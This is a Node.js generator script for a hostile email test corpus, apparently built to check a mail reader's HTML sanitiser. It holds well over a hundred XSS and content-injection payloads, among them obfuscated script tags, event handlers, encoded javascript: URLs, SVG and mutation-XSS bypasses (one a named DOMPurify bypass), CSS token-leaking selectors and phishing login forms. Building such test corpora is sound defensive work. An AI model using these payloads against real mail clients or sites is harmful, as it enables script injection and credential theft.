// Writes the hostile mail corpus: one NNN-<class>-<slug>.eml per attack below, plus README.md listing them.
// Run from anywhere with `node generate.mjs`; the .eml files are committed, so a review reads the mail itself.
// Beacon convention: a payload that "works" requests http://127.0.0.1:18071/<number>/<what> or calls
// alert/confirm/prompt/print. Only .example/.test hosts appear otherwise (never loaded before the reader allows it).
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

const HERE = path.dirname(fileURLToPath(import.meta.url));
const BEACON = 'http://127.0.0.1:18071';
const CRLF = '\r\n';
const TO = 'Reader <reader@example.test>';
const FROM = 'Mallory <mallory@attacker.example>';

const entities = {
  dec: (s) => [...s].map((c) => `&#${c.codePointAt(0)};`).join(''),
  hex: (s) => [...s].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join(''),
  decNoSemi: (s) => [...s].map((c) => `&#0000${c.codePointAt(0)}`).join(''),
};
const b64 = (s) => Buffer.from(s, 'utf8').toString('base64').replace(/.{1,76}/g, (l) => l + CRLF).trimEnd();
const rfc2047 = (s) => `=?UTF-8?B?${Buffer.from(s, 'utf8').toString('base64')}?=`;

/** Quoted-printable (RFC 2045 6.7): keeps NULs, long lines and 8-bit text out of the raw file. */
function qp(text) {
  return text.split(/\r?\n/).map((line) => {
    let out = '';
    let width = 0;
    for (const byte of Buffer.from(line, 'utf8')) {
      const ch = String.fromCharCode(byte);
      const enc = (byte >= 33 && byte <= 126 && ch !== '=') || byte === 32 ? ch : `=${byte.toString(16).toUpperCase().padStart(2, '0')}`;
      if (width + enc.length > 73) { out += '=' + CRLF; width = 0; }
      out += enc;
      width += enc.length;
    }
    return out.endsWith(' ') ? out.slice(0, -1) + '=20' : out;
  }).join(CRLF);
}

const needsQp = (s) => /[^\x09\x0a\x0d\x20-\x7e]/.test(s) || s.split('\n').some((l) => l.length > 900);

/** A single-part body: raw when it is short 7-bit text, quoted-printable otherwise. */
function part(type, text, extra = []) {
  const encoded = needsQp(text);
  return { head: [`Content-Type: ${type}`, `Content-Transfer-Encoding: ${encoded ? 'quoted-printable' : '7bit'}`, ...extra],
    body: encoded ? qp(text) : text.replace(/\r?\n/g, CRLF) };
}
const html = (text) => part('text/html; charset=utf-8', text);
const text = (t) => part('text/plain; charset=utf-8', t);

/** multipart/mixed of an HTML (or text) body and attachments [{type, name, disposition, body, raw}] */
function mixed(n, first, attachments) {
  const boundary = `=_hostile_${n}_boundary`;
  const pieces = [first, ...attachments].map((p) => `--${boundary}${CRLF}${p.head.join(CRLF)}${CRLF}${CRLF}${p.body}`);
  return { head: [`Content-Type: multipart/mixed; boundary="${boundary}"`],
    body: `This is a multi-part message in MIME format.${CRLF}${pieces.join(CRLF)}${CRLF}--${boundary}--${CRLF}` };
}
const attachment = (type, disposition, content, encoding = 'base64') => ({
  head: [`Content-Type: ${type}`, `Content-Disposition: ${disposition}`, `Content-Transfer-Encoding: ${encoding}`],
  body: encoding === 'base64' ? b64(content) : content.replace(/\r?\n/g, CRLF) });

const LOGIN = (b) => `<div style="font-family:sans-serif"><h2>Your session expired</h2><p>Sign in again to keep reading.</p>
<form action="${b('form-post')}" method="post"><input name="username" value="reader@example.test">
<input type="password" name="password" autofocus><button type="submit">Sign in</button></form></div>`;

// [class, slug, what it attacks, (b) => {subject?, from?, headers?, content}]; b(what) is this message's beacon URL.
const CORPUS = [
  // --- script in every spelling
  ['script', 'plain', 'a plain <script> element', (b) => ({ content: html(`<p>Hi</p><script>alert(1);fetch('${b('script')}')</script>`) })],
  ['script', 'uppercase', 'upper-case SCRIPT', (b) => ({ content: html(`<SCRIPT>alert(1)</SCRIPT><SCRIPT SRC="${b('script-src')}"></SCRIPT>`) })],
  ['script', 'mixed-case', 'mixed-case ScRiPt with a src', (b) => ({ content: html(`<ScRiPt sRc="${b('script-src')}"></sCrIpT><p>hello</p>`) })],
  ['script', 'null-byte', 'a NUL inside the tag name', (b) => ({ content: html(`<scr\0ipt>alert(1)</scr\0ipt><img src="x" o\0nerror="alert(2)">`) })],
  ['script', 'split-tags', 'a tag split around an inner script tag', (b) => ({ content: html(`<scr<script>ipt>alert(1)</scr</script>ipt><scri<!-- -->pt>alert(2)</script>`) })],
  ['script', 'slash-attribute', '<script/x> and <script/src=>', (b) => ({ content: html(`<script/x>alert(1)</script><script/src="${b('script-slash')}"></script>`) })],
  ['script', 'unclosed', 'an unclosed script at the end of the body', (b) => ({ content: html(`<p>Report attached</p><script>alert(1);new Image().src='${b('unclosed')}'`) })],
  ['script', 'in-attribute', 'script markup inside attribute values', (b) => ({ content: html(`<a title="</a><script>alert(1)</script>" href="http://a.example/">x</a><img alt="<script>alert(2)</script>" src="${b('alt')}">`) })],
  ['script', 'in-comment', 'scripts in and after bogus comments', (b) => ({ content: html(`<!-- <script>alert(1)</script> --><!-- --!><script>alert(2)</script> --><!--><script>alert(3)</script>-->`) })],
  ['script', 'conditional-comment', 'IE conditional comments hiding script', (b) => ({ content: html(`<!--[if gte IE 4]><script>alert(1)</script><![endif]--><![if !IE]><script>alert(2)</script><![endif]>`) })],
  ['script', 'module-and-type', 'type=module, text/vbscript and a JSON type', (b) => ({ content: html(`<script type="module">import '${b('module')}'</script><script type="text/vbscript">MsgBox "x"</script><script type="application/json">{}</script>`) })],
  ['script', 'newline-in-tag', 'whitespace and newlines inside the tag', (b) => ({ content: html(`<script\n>alert(1)</script\n><script\t\ttype="text/javascript"\n>alert(2)</script>`) })],
  ['script', 'xmp-plaintext', 'script after xmp/plaintext/listing raw-text elements', (b) => ({ content: html(`<xmp><script>alert(1)</script></xmp><listing><script>alert(2)</script></listing><plaintext><script>alert(3)</script>`) })],
  ['script', 'svg-script', 'script inside svg, with xlink:href source', (b) => ({ content: html(`<svg><script>alert(1)</script><script xlink:href="${b('svg-script')}"></script></svg>`) })],
  ['script', 'utf7', 'UTF-7 encoded script (charset=utf-7)', (b) => ({ content: part('text/html; charset=utf-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-') })],
  ['script', 'entity-text', 'escaped script that must stay text', (b) => ({ content: html(`<p>&lt;script&gt;alert(1)&lt;/script&gt; is what an attack looks like.</p>`) })],
  // --- event handlers on every element kind
  ['handler', 'img-onerror', 'img onerror', (b) => ({ content: html(`<img src="x" onerror="alert(1)"><img src=x onerror=alert(2)//`) })],
  ['handler', 'img-slash', 'img/src/onerror without spaces', (b) => ({ content: html(`<img/src/onerror=alert(1)><img src=x:x onerror=confirm(1)>`) })],
  ['handler', 'body-onload', 'body onload and onpageshow', (b) => ({ content: html(`<html><body onload="alert(1)" onpageshow="alert(2)"><p>Welcome</p></body></html>`) })],
  ['handler', 'svg-onload', 'svg onload', (b) => ({ content: html(`<svg onload="alert(1)"></svg><svg/onload=alert(2)>`) })],
  ['handler', 'details-ontoggle', 'details open ontoggle', (b) => ({ content: html(`<details open ontoggle="alert(1)"><summary>Open me</summary>x</details>`) })],
  ['handler', 'video-onerror', 'video and source onerror', (b) => ({ content: html(`<video onerror="alert(1)"><source src="x" onerror="alert(2)"></video><video src=x onerror=alert(3)></video>`) })],
  ['handler', 'audio-onerror', 'audio onerror', (b) => ({ content: html(`<audio src="x" onerror="alert(1)"></audio><audio><source onerror=alert(2) src=y></audio>`) })],
  ['handler', 'input-autofocus', 'input autofocus onfocus', (b) => ({ content: html(`<input autofocus onfocus="alert(1)"><textarea autofocus onfocus=alert(2)></textarea><select autofocus onfocus=alert(3)></select>`) })],
  ['handler', 'marquee-onstart', 'marquee onstart', (b) => ({ content: html(`<marquee onstart="alert(1)">news</marquee><marquee loop=1 width=0 onfinish=alert(2)>x</marquee>`) })],
  ['handler', 'iframe-onload', 'iframe and object onload/onerror', (b) => ({ content: html(`<iframe onload="alert(1)"></iframe><object data="x" onerror="alert(2)"></object>`) })],
  ['handler', 'mouse-events', 'mouse handlers on common layout elements', (b) => ({ content: html(`<div onmouseover="alert(1)" style="width:100%;height:600px">hover</div><a href="http://a.example/" onclick="alert(2)">click</a><table onmouseenter=alert(3)><tr><td onpointerover=alert(4)>x</td></tr></table>`) })],
  ['handler', 'style-onload', 'style and link onload', (b) => ({ content: html(`<style onload="alert(1)">p{}</style><link rel=stylesheet href=x onerror=alert(2)>`) })],
  ['handler', 'form-onsubmit', 'form onsubmit/onformdata and button onclick', (b) => ({ content: html(`<form onsubmit="alert(1)"><button onclick="alert(2)" autofocus onfocus=alert(3)>Go</button></form>`) })],
  ['handler', 'svg-animate-onbegin', 'svg animate onbegin / onend', (b) => ({ content: html(`<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/><set onend=alert(2) attributeName=x to=1 dur=1ms /></svg>`) })],
  ['handler', 'image-tag', 'the <image> alias of img', (b) => ({ content: html(`<image src="x" onerror="alert(1)"><image2 src=x onerror=alert(2)>`) })],
  ['handler', 'odd-spacing', 'handlers separated by slashes, newlines, quotes', (b) => ({ content: html(`<img src=x\nonerror\n=\nalert(1)><img src="x"/onerror="alert(2)"><img src='x'onerror='alert(3)'>`) })],
  ['handler', 'uppercase', 'upper-case handler names', (b) => ({ content: html(`<IMG SRC=x ONERROR="alert(1)"><BODY ONLOAD=alert(2)>`) })],
  ['handler', 'animation', 'onanimationstart with a CSS animation', (b) => ({ content: html(`<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="alert(1)">x</p><p style="transition:1s" ontransitionend=alert(2)>y</p>`) })],
  ['handler', 'focus-tabindex', 'tabindex + autofocus + onfocus on a div, and contenteditable', (b) => ({ content: html(`<div tabindex=1 autofocus onfocus="alert(1)" contenteditable>x</div><a id=x tabindex=1 onfocusin=alert(2)></a>`) })],
  ['handler', 'html-onscroll', 'onscroll/onresize/onbeforeprint', (b) => ({ content: html(`<body onresize=alert(1) onbeforeprint=alert(2)><div style="overflow:auto;height:50px" onscroll=alert(3)><br><br><br><br></div>`) })],
  // --- dangerous URL schemes in every URL-bearing attribute
  ['url', 'a-href-javascript', 'a href=javascript:', (b) => ({ content: html(`<a href="javascript:alert(1)">Click for your invoice</a>`) })],
  ['url', 'img-src-javascript', 'img src=javascript:', (b) => ({ content: html(`<img src="javascript:alert(1)">`) })],
  ['url', 'form-action', 'form action=javascript:', (b) => ({ content: html(`<form action="javascript:alert(1)"><input type=submit value=Go></form>`) })],
  ['url', 'button-formaction', 'button formaction and input formaction', (b) => ({ content: html(`<form><button formaction="javascript:alert(1)">Go</button><input type=submit formaction="javascript:alert(2)"></form>`) })],
  ['url', 'iframe-src', 'iframe src=javascript:', (b) => ({ content: html(`<iframe src="javascript:alert(1)"></iframe>`) })],
  ['url', 'object-data', 'object data=javascript:', (b) => ({ content: html(`<object data="javascript:alert(1)"></object>`) })],
  ['url', 'embed-src', 'embed src=javascript:', (b) => ({ content: html(`<embed src="javascript:alert(1)">`) })],
  ['url', 'area-href', 'area href inside an image map', (b) => ({ content: html(`<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m"><map name="m"><area shape="rect" coords="0,0,500,500" href="javascript:alert(1)"></map>`) })],
  ['url', 'base-href', 'base href=javascript: making relative links run', (b) => ({ content: html(`<base href="javascript:alert(1)//"><a href="/x">relative</a>`) })],
  ['url', 'link-href', 'link href=javascript:', (b) => ({ content: html(`<link rel="stylesheet" href="javascript:alert(1)">`) })],
  ['url', 'svg-xlink', 'svg a xlink:href=javascript:', (b) => ({ content: html(`<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>`) })],
  ['url', 'meta-refresh-javascript', 'meta refresh to javascript:', (b) => ({ content: html(`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`) })],
  ['url', 'vbscript', 'vbscript: in href and src', (b) => ({ content: html(`<a href="vbscript:MsgBox(1)">vb</a><img src="vbscript:msgbox(2)">`) })],
  ['url', 'data-text-html', 'data:text/html links', (b) => ({ content: html(`<a href="data:text/html,<script>alert(1)</script>">open</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b64</a>`) })],
  ['url', 'data-svg-img', 'data:image/svg+xml images and links with script', (b) => ({ content: html(`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"><a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">svg</a>`) })],
  ['url', 'entity-decimal', 'javascript: written as decimal entities', (b) => ({ content: html(`<a href="${entities.dec('javascript:alert(1)')}">dec</a><img src="${entities.dec(`javascript:fetch('${b('dec')}')`)}">`) })],
  ['url', 'entity-hex', 'javascript: written as hex entities', (b) => ({ content: html(`<a href="${entities.hex('javascript:alert(1)')}">hex</a>`) })],
  ['url', 'entity-no-semicolon', 'zero-padded decimal entities without semicolons', (b) => ({ content: html(`<a href="${entities.decNoSemi('javascript:alert(1)')}">nosemi</a>`) })],
  ['url', 'entity-named', 'named entities &colon; &Tab; &NewLine; in the scheme', (b) => ({ content: html(`<a href="javascript&colon;alert(1)">colon</a><a href="java&Tab;script:alert(2)">tab</a><a href="java&NewLine;script&colon;alert(3)">nl</a>`) })],
  ['url', 'tab-newline', 'raw tab, CR and LF inside the scheme', (b) => ({ content: html(`<a href="java\tscript:alert(1)">t</a><a href="java\nscript:alert(2)">n</a><a href="jav&#x09;ascript:alert(3)">x</a><a href="jav&#10;ascript:alert(4)">y</a>`) })],
  ['url', 'case', 'scheme in mixed case', (b) => ({ content: html(`<a href="JaVaScRiPt:alert(1)">c</a><a href="JAVASCRIPT:alert(2)">C</a>`) })],
  ['url', 'leading-control', 'leading spaces and control characters before the scheme', (b) => ({ content: html(`<a href="  javascript:alert(1)">s</a><a href="\x01javascript:alert(2)">c</a><a href="&#14;javascript:alert(3)">e</a>`) })],
  ['url', 'percent-encoded', 'percent-encoded payload after a plain scheme', (b) => ({ content: html(`<a href="javascript:%61%6c%65%72%74%28%31%29">pct</a><a href="javascript://%0aalert(2)">comment</a>`) })],
  ['url', 'img-lowsrc-dynsrc', 'lowsrc/dynsrc/longdesc javascript:', (b) => ({ content: html(`<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(2)" longdesc="javascript:alert(3)" src="x">`) })],
  ['url', 'isindex-action', 'isindex action and input type=image formaction', (b) => ({ content: html(`<isindex action="javascript:alert(1)" type="submit"><input type="image" formaction="javascript:alert(2)" src="x">`) })],
  ['url', 'blockquote-cite', 'cite/poster/background/ping with javascript:', (b) => ({ content: html(`<blockquote cite="javascript:alert(1)">q</blockquote><a ping="${b('ping')}" href="http://a.example/">ping</a><video poster="javascript:alert(2)"></video>`) })],
  ['url', 'href-on-any-element', 'href attributes on elements that should not have one', (b) => ({ content: html(`<div href="javascript:alert(1)">d</div><math href="javascript:alert(2)"><mi>x</mi></math>`) })],
  ['url', 'srcdoc-entities', 'entity-encoded script in iframe srcdoc', (b) => ({ content: html(`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=${b('srcdoc')}&gt;"></iframe>`) })],
  ['url', 'javascript-in-mailto', 'mailto links with hostile parts', (b) => ({ content: html(`<a href="mailto:x@example.test?body=%3Cscript%3Ealert(1)%3C/script%3E">mail</a><a href="mailto:&quot;onmouseover=alert(2)&quot;@example.test">q</a>`) })],
  // --- SVG animation, FuncIRI, feImage, use
  ['svg', 'animate-href', 'animate on href to javascript:', (b) => ({ content: html(`<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">Click</text></a></svg>`) })],
  ['svg', 'animate-padded-name', 'attributeName=" href" (padded)', (b) => ({ content: html(`<svg><a><animate attributeName=" href" values="javascript:alert(1)"/><text x="20" y="20">Click</text></a></svg>`) })],
  ['svg', 'animate-xlink', 'attributeName="xlink:href" (prefixed)', (b) => ({ content: html(`<svg><a xmlns:xlink="http://www.w3.org/1999/xlink"><animate attributeName="xlink:href" values="javascript:alert(1)"/><text x="20" y="20">Click</text></a></svg>`) })],
  ['svg', 'set-href', 'set to=javascript: on href', (b) => ({ content: html(`<svg><a><set attributeName="href" to="javascript:alert(1)"/><text x="20" y="20">Click</text></a></svg>`) })],
  ['svg', 'animate-style', 'animate on style and on onload', (b) => ({ content: html(`<svg><rect width="100" height="100"><animate attributeName="style" values="background:url(${b('animate-style')})"/><set attributeName="onload" to="alert(1)"/></rect></svg>`) })],
  ['svg', 'funciri', 'FuncIRI fill/filter/mask/clip-path url()', (b) => ({ content: html(`<svg><rect width="10" height="10" fill="url(${b('fill')}#p)" filter="url(${b('filter')}#f)" mask="url(${b('mask')}#m)" clip-path="url(${b('clip')}#c)"/></svg>`) })],
  ['svg', 'funciri-unclosed', 'unclosed FuncIRI url(', (b) => ({ content: html(`<svg><rect width="10" height="10" fill="url(${b('fill-unclosed')}"/></svg><p style="background:url(${b('css-unclosed')}">x</p>`) })],
  ['svg', 'feimage', 'feImage href loading a remote image', (b) => ({ content: html(`<svg><filter id="f"><feImage href="${b('feimage')}" xlink:href="${b('feimage-xlink')}"/></filter><rect filter="url(#f)" width="10" height="10"/></svg>`) })],
  ['svg', 'use-data', '<use href="data:..."> with a script', (b) => ({ content: html(`<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nYWxlcnQoMSknLz48L3N2Zz4=#x"/><use xlink:href="${b('use')}#x"/></svg>`) })],
  ['svg', 'foreignobject', 'foreignObject carrying HTML', (b) => ({ content: html(`<svg><foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${b('foreign')}" onerror="alert(1)"></body></foreignObject></svg>`) })],
  ['svg', 'image-href', 'svg image href/xlink:href', (b) => ({ content: html(`<svg><image href="${b('svg-image')}" width="10" height="10"/><image xlink:href="${b('svg-image-xlink')}"/></svg>`) })],
  ['svg', 'style-in-svg', 'style element inside svg with @import', (b) => ({ content: html(`<svg><style>@import url(${b('svg-import')});rect{fill:url(${b('svg-style-fill')})}</style><rect width="5" height="5"/></svg>`) })],
  ['svg', 'handler-element', 'svg handler and listener elements', (b) => ({ content: html(`<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler><listener event="load" handler="#x"/></svg>`) })],
  // --- namespace confusion and mutation XSS
  ['mxss', 'noscript', 'noscript attribute breakout', (b) => ({ content: html(`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`) })],
  ['mxss', 'noembed', 'noembed attribute breakout', (b) => ({ content: html(`<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>`) })],
  ['mxss', 'noframes', 'noframes attribute breakout', (b) => ({ content: html(`<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>`) })],
  ['mxss', 'template', 'template content and nested template', (b) => ({ content: html(`<template><img src=x onerror=alert(1)></template><template><template><script>alert(2)</script></template></template>`) })],
  ['mxss', 'comment-breakout', 'comment that closes early in a browser', (b) => ({ content: html(`<!--><img src=x onerror=alert(1)>--><!---><img src=x onerror=alert(2)>--><!--!><img src=x onerror=alert(3)>-->`) })],
  ['mxss', 'cdata', 'CDATA in svg/html', (b) => ({ content: html(`<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg><![CDATA[><img src=x onerror=alert(2)>]]>`) })],
  ['mxss', 'math-mglyph-style', '<math><mtext><table><mglyph><style> chain', (b) => ({ content: html(`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`) })],
  ['mxss', 'svg-p-style', '<svg></p><style><a id="</style><img ...>">', (b) => ({ content: html(`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`) })],
  ['mxss', 'math-mi-style', 'style inside math mi', (b) => ({ content: html(`<math><mi><style><img src=x onerror=alert(1)></style></mi></math>`) })],
  ['mxss', 'form-math-mglyph', 'nested form + math mglyph (DOMPurify 2.0.0 bypass)', (b) => ({ content: html(`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`) })],
  ['mxss', 'foreignobject-style', 'svg foreignobject p style', (b) => ({ content: html(`<svg><foreignobject><p><style><img src=x onerror=alert(1)></style></p></foreignobject></svg>`) })],
  ['mxss', 'textarea-title', 'textarea/title RCDATA breakout', (b) => ({ content: html(`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea><title><img title="</title><img src=x onerror=alert(2)>"></title>`) })],
  ['mxss', 'annotation-xml', 'math annotation-xml encoding=text/html', (b) => ({ content: html(`<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`) })],
  ['mxss', 'select-template', 'select > template > style', (b) => ({ content: html(`<select><template><style><!--</style><img src=x onerror=alert(1)>--></style></template></select>`) })],
  ['mxss', 'iframe-rawtext', 'iframe raw text with a fake close', (b) => ({ content: html(`<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe><noscript></noscript><style></style><img src=x onerror=alert(2)>`) })],
  ['mxss', 'backtick-attr', 'backtick-quoted attribute (old IE)', (b) => ({ content: html('<img src=`x`onerror=alert(1)><p title=``onmouseover=alert(2)>x</p>') })],
  ['mxss', 'double-encoded', 'double-encoded markup that a second decode would activate', (b) => ({ content: html(`<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p><p title="&amp;quot;&gt;&lt;script&gt;alert(2)&lt;/script&gt;">t</p>`) })],
  // --- active elements: base, meta, link, iframe, object, embed
  ['element', 'base-remote', 'base href to the beacon', (b) => ({ content: html(`<base href="${b('base')}/"><img src="pixel.gif"><a href="page">p</a>`) })],
  ['element', 'meta-refresh', 'meta refresh to the beacon', (b) => ({ content: html(`<meta http-equiv="refresh" content="0;url=${b('meta-refresh')}"><p>wait</p>`) })],
  ['element', 'meta-csp-and-cookie', 'meta set-cookie / CSP / charset tricks', (b) => ({ content: html(`<meta http-equiv="Set-Cookie" content="x=1"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="X-UA-Compatible" content="IE=5"><p>meta</p>`) })],
  ['element', 'link-stylesheet', 'link rel=stylesheet to the beacon', (b) => ({ content: html(`<link rel="stylesheet" href="${b('link-stylesheet')}"><p>styled</p>`) })],
  ['element', 'link-prefetch', 'link prefetch/preload/dns-prefetch/preconnect', (b) => ({ content: html(`<link rel="prefetch" href="${b('prefetch')}"><link rel="preload" as="image" href="${b('preload')}"><link rel="dns-prefetch" href="${b('dns-prefetch')}"><link rel="preconnect" href="${b('preconnect')}">`) })],
  ['element', 'link-import', 'HTML import and modulepreload', (b) => ({ content: html(`<link rel="import" href="${b('import')}"><link rel="modulepreload" href="${b('modulepreload')}"><link rel="icon" href="${b('icon')}">`) })],
  ['element', 'iframe-remote', 'iframe src to the beacon', (b) => ({ content: html(`<iframe src="${b('iframe')}" width="600" height="400"></iframe>`) })],
  ['element', 'iframe-srcdoc', 'iframe srcdoc with script', (b) => ({ content: html(`<iframe srcdoc="<script>alert(1)</script><img src='${b('srcdoc')}'>"></iframe>`) })],
  ['element', 'frameset', 'frameset/frame', (b) => ({ content: html(`<frameset><frame src="${b('frame')}"></frameset>`) })],
  ['element', 'object-remote', 'object data to the beacon', (b) => ({ content: html(`<object data="${b('object')}" type="text/html"></object><object><param name="movie" value="${b('param')}"></object>`) })],
  ['element', 'embed-remote', 'embed src to the beacon', (b) => ({ content: html(`<embed src="${b('embed')}" type="image/svg+xml">`) })],
  ['element', 'applet', 'applet codebase', (b) => ({ content: html(`<applet code="X.class" codebase="${b('applet')}/"></applet>`) })],
  ['element', 'portal-fencedframe', 'portal and fencedframe', (b) => ({ content: html(`<portal src="${b('portal')}"></portal><fencedframe src="${b('fencedframe')}"></fencedframe>`) })],
  ['element', 'dialog-popover', 'dialog open and popover elements overlaying the frame', (b) => ({ content: html(`<dialog open style="position:fixed;inset:0">Your account is locked</dialog><div popover=manual id=p>x</div><button popovertarget=p>p</button>`) })],
  // --- forms and phishing
  ['form', 'login-password', 'a phishing login form posting a password to the beacon', (b) => ({ content: html(LOGIN(b)) })],
  ['form', 'login-get', 'a GET form with hidden fields', (b) => ({ content: html(`<form action="${b('form-get')}"><input type=hidden name=session value=1><input type=password name=p><input type=submit value="Verify"></form>`) })],
  ['form', 'form-attribute', 'inputs tied to a form by the form= attribute', (b) => ({ content: html(`<form id="f" action="${b('form-attr')}"></form><input form="f" type="password" name="p"><button form="f">Send</button>`) })],
  ['form', 'autofill-trap', 'hidden autofill fields harvesting saved credentials', (b) => ({ content: html(`<form action="${b('autofill')}"><input name="email" autocomplete="email"><input style="position:absolute;left:-999px" name="cc" autocomplete="cc-number"><input type=password autocomplete=current-password></form>`) })],
  ['form', 'styled-like-app', 'a fake sign-in page styled like the webmail', (b) => ({ content: html(`<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:2147483647"><h1>Webmail</h1>${LOGIN(b)}</div>`) })],
  ['form', 'keygen-output', 'keygen, output, datalist, fieldset', (b) => ({ content: html(`<form action="${b('keygen')}"><fieldset><keygen name=k><output>o</output><datalist><option value=x></datalist><input list=x></fieldset></form>`) })],
  // --- CSS
  ['css', 'expression', 'IE expression() in style attribute', (b) => ({ content: html(`<p style="width:expression(alert(1))">e</p><p style="x:\\65xpression(alert(2))">esc</p><p style="w:expr/**/ession(alert(3))">comment</p>`) })],
  ['css', 'behavior-binding', 'behavior:url() and -moz-binding', (b) => ({ content: html(`<p style="behavior:url(${b('behavior')}.htc)">b</p><p style="-moz-binding:url(${b('binding')}#x)">m</p>`) })],
  ['css', 'import', '@import in a style element', (b) => ({ content: html(`<style>@import url(${b('import-url')});@import "${b('import-string')}";</style><p>x</p>`) })],
  ['css', 'var-url', 'var() hiding url()', (b) => ({ content: html(`<p style="--u:url(${b('var')});background-image:var(--u)">var</p><style>:root{--x:url(${b('var-style')})}p{background:var(--x)}</style>`) })],
  ['css', 'escaped-url', 'CSS escapes spelling url and background', (b) => ({ content: html(`<p style="back\\67round:u\\72l(${b('escaped')})">a</p><p style="background:\\75\\72\\6c(${b('escaped-2')})">b</p>`) })],
  ['css', 'important-position', '!important against position guards', (b) => ({ content: html(`<div style="position:fixed !important;top:0 !important;left:0 !important;width:100vw;height:100vh;z-index:2147483647 !important;background:red">covers</div>`) })],
  ['css', 'fixed-overlay', 'position:fixed overlay with a fake dialog', (b) => ({ content: html(`<div style="position:fixed;inset:0;background:rgba(0,0,0,.8);z-index:99999"><div style="margin:20% auto;width:300px;background:#fff">Your password expired. <a href="http://phish.example/">Renew</a></div></div>`) })],
  ['css', 'leak-body', 'style element targeting body/html of the app', (b) => ({ content: html(`<style>body,html{display:none!important}.mailbox,main,nav,#message-list{display:none;background:url(${b('leak')})}</style><p>gone</p>`) })],
  ['css', 'leak-selectors', 'attribute-selector keylogger for the CSRF token', (b) => ({ content: html(`<style>input[name=csrf][value^=a]{background:url(${b('csrf-a')})}input[value$=b]{background:url(${b('csrf-b')})}</style>`) })],
  ['css', 'font-face', '@font-face with a remote font and unicode-range leak', (b) => ({ content: html(`<style>@font-face{font-family:x;src:url(${b('font')})}@font-face{font-family:y;src:url(${b('font-a')});unicode-range:U+0041}</style><p style="font-family:x,y">A</p>`) })],
  ['css', 'content-url', 'content:url() and ::before', (b) => ({ content: html(`<style>p::before{content:url(${b('content')})}</style><p style="content:url(${b('content-inline')})">c</p>`) })],
  ['css', 'comment-split', 'comments splitting url( and expression', (b) => ({ content: html(`<p style="background:ur/**/l(${b('comment-url')})">a</p><p style="background:url/**/(${b('comment-url-2')})">b</p>`) })],
  ['css', 'absolute-offscreen', 'negative margins and transforms moving text over the header', (b) => ({ content: html(`<div style="position:absolute;top:-500px;margin-top:-500px;transform:translate(0,-500px)">From: ceo@bank.example</div>`) })],
  ['css', 'style-in-attribute-breakout', 'style attribute closing itself', (b) => ({ content: html(`<p style="color:red;&quot;><img src=x onerror=alert(1)>">x</p><p style='color:blue\\' onmouseover=alert(2)'>y</p>`) })],
  ['css', 'mask-filter', 'mask-image, filter and shape-outside urls', (b) => ({ content: html(`<p style="mask-image:url(${b('mask')});filter:url(${b('filter')}#f);shape-outside:url(${b('shape')})">m</p>`) })],
  ['css', 'media-supports', '@media/@supports/@layer wrapping remote urls', (b) => ({ content: html(`<style>@media all{body{background:url(${b('media')})}}@supports (display:grid){p{background:url(${b('supports')})}}@layer a{p{background:url(${b('layer')})}}</style>`) })],
  ['css', 'huge-text', 'font-size/zoom blowing up the frame', (b) => ({ content: html(`<p style="font-size:99999px;zoom:5000;line-height:99999px">big</p>`) })],
  ['css', 'svg-in-style', 'a data:image/svg+xml background with script', (b) => ({ content: html(`<p style="background:url('data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>')">s</p>`) })],
  // --- remote content of every kind
  ['remote', 'img-src', 'a tracking pixel', (b) => ({ content: html(`<p>Newsletter</p><img src="${b('img')}" width="1" height="1">`) })],
  ['remote', 'img-srcset', 'srcset and sizes', (b) => ({ content: html(`<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="${b('srcset-1x')} 1x, ${b('srcset-2x')} 2x">`) })],
  ['remote', 'picture-source', 'picture/source srcset', (b) => ({ content: html(`<picture><source srcset="${b('source')}" type="image/webp"><source media="(min-width:1px)" srcset="${b('source-media')}"><img src="${b('picture-img')}"></picture>`) })],
  ['remote', 'css-background', 'CSS background shorthand', (b) => ({ content: html(`<div style="background:url(${b('background')}) no-repeat;height:20px">bg</div>`) })],
  ['remote', 'css-background-image', 'CSS background-image, quoted', (b) => ({ content: html(`<div style="background-image:url('${b('background-image')}');height:20px">bg</div><td style='background-image:url("${b('bgi-dq')}")'>x</td>`) })],
  ['remote', 'body-background', '<body background>', (b) => ({ content: html(`<html><body background="${b('body-background')}"><p>x</p></body></html>`) })],
